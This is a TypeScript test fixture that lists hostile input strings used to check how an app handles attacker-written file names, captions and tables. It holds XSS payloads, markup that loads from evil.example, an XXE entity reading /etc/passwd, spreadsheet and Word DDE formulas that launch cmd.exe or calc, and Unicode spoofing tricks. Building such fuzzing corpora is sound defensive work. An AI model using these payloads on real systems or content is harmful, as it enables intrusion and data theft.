// Words as an attacker writes them: into file names, captions, articles, tables and decisions.

/** The function that all of them try to call; a page that runs it has been taken over. */
export const TRAP = 'xinmaoTrap';

const CALL = `${TRAP}()`;

/** Markup that would run, load or restyle something where it is taken for markup. */
const MARKUP = [
  `<script>${CALL}</script>`,
  `<ScRiPt >${CALL}</sCrIpT >`,
  `<img src=x onerror=${CALL}>`,
  `<img/src/onerror="${CALL}">`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CALL}">`,
  `<object data="javascript:${CALL}">`,
  `<embed src="http://evil.example/x.swf">`,
  `<body onload=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<a href="javascript:${CALL}">点这里</a>`,
  `<meta http-equiv="refresh" content="0;url=http://evil.example/">`,
  `<base href="http://evil.example/">`,
  `<link rel="stylesheet" href="http://evil.example/x.css">`,
  `<img src="http://evil.example/pixel.gif">`,
  `<form action="http://evil.example/"><button>确定</button></form>`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `--><script>${CALL}</script><!--`,
  `<!--[if gte IE 4]><script>${CALL}</script><![endif]-->`,
  `]]><script>${CALL}</script><![CDATA[`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${CALL}</x:script>`,
];

/** What breaks out of an attribute, a script, a style or an address. */
const ESCAPES = [
  `" onmouseover="${CALL}" x="`,
  `' onmouseover='${CALL}' x='`,
  `" autofocus onfocus="${CALL}`,
  '`;' + `${CALL};` + '`',
  `\\";${CALL};//`,
  `';${CALL};//`,
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `vbscript:${CALL}`,
  `url(javascript:${CALL})`,
  'expression(alert(1))',
  '}body{background:url(http://evil.example/x)}',
  '@import "http://evil.example/x.css";',
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `<%= ${CALL} %>`,
  `#{${CALL}}`,
  '$t(nav.photos)',
  '{{name}}',
  '%s %d %n %x',
  "$& $1 $` $'",
];

/** What is taken for another character, or for none. */
const CHARACTERS = [
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;img src=x onerror=${CALL}&#62;`,
  '&amp;amp; &nbsp; &#0; &#x110000; &bogus;',
  '\u202e\u202dgpj.exe\u202c',
  '村\u200b\u200c\u200d\u2060\ufeff口',
  'a\u2028b\u2029c',
  'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301',
  '\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 𠮷野家',
  '\u0001\u0008\u001b[31m红\u001b[0m\u007f\u0085',
  '\ufffe\uffff',
  '＜script＞',
];

/** What a spreadsheet would calculate and Word would look up. */
const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=HYPERLINK("http://evil.example/","点")',
  '＝1+1',
  "'=1+1",
  '{ INCLUDETEXT "file:///etc/passwd" }',
  '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
  'TOC \\o "1-3"',
];

/** All of them, one line each. */
export const HOSTILE_STRINGS: readonly string[] = [
  ...MARKUP,
  ...ESCAPES,
  ...CHARACTERS,
  ...FORMULAS,
];

/** As near to them as a file's name can be on this system. */
export function hostileFileNames(): string[] {
  const isWindows = process.platform === 'win32';
  const forbidden = isWindows ? /[<>:"/\\|?*\p{Cc}]/gu : /[/\0]/g;
  return HOSTILE_STRINGS.map((text) => text.replaceAll(forbidden, '_').trim())
    .filter((name) => name !== '' && Buffer.byteLength(name) < 200)
    .filter((name) => name.isWellFormed() && !(isWindows && /[. ]$/.test(name)));
}
